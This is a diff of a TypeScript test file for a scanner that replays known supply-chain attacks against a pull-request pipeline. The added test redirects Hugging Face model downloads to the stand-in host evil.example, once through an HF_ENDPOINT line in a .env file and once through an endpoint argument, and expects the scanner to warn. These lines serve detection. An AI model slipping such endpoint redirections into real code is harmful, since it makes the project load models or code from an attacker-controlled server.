@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { modelsLockPath } from '../../src/model/index.ts'
-import { added, load, old, startReplay } from './replay.ts'
+import { added, changed, load, old, startReplay } from './replay.ts'
 
 /**
  * Attacks that happened, replayed against the whole pipeline as a pull request brings them: nothing here knows what a
@@ -122,6 +122,18 @@ describe('attacks', () => {
     expect(await caught([added('load.py', load('acme/lambda', commit))], { policy })).toEqual([
       'warning: model-format/code-inside',
     ])
+  })
+
+  it('another server in the place of the hub, by one line of a file that loads nothing', async () => {
+    const line = 'HF_ENDPOINT=https://evil.example\n'
+    expect(await caught([changed('.env', 'A=b\n', `A=b\n${line}`)])).toEqual(['warning: model-endpoint/set'])
+    expect(await caught([changed('.env', line, `A=b\n${line}`)])).toEqual([])
+    const commit = publish({ id: 'acme/argued' }, { 'model.safetensors': 'w' })
+    const asks = `from huggingface_hub import hf_hub_download\nhf_hub_download("acme/argued", "model.safetensors", revision="${commit}"`
+    expect(await caught([added('a.py', `${asks}, endpoint="https://evil.example")\n`)])).toEqual([
+      'warning: model-endpoint/redirected',
+    ])
+    expect(await caught([added('a.py', `${asks})\n`)])).toEqual([])
   })
 
   it('asks about a model once, where code loads it, and not again for its entry in the lock', async () => {
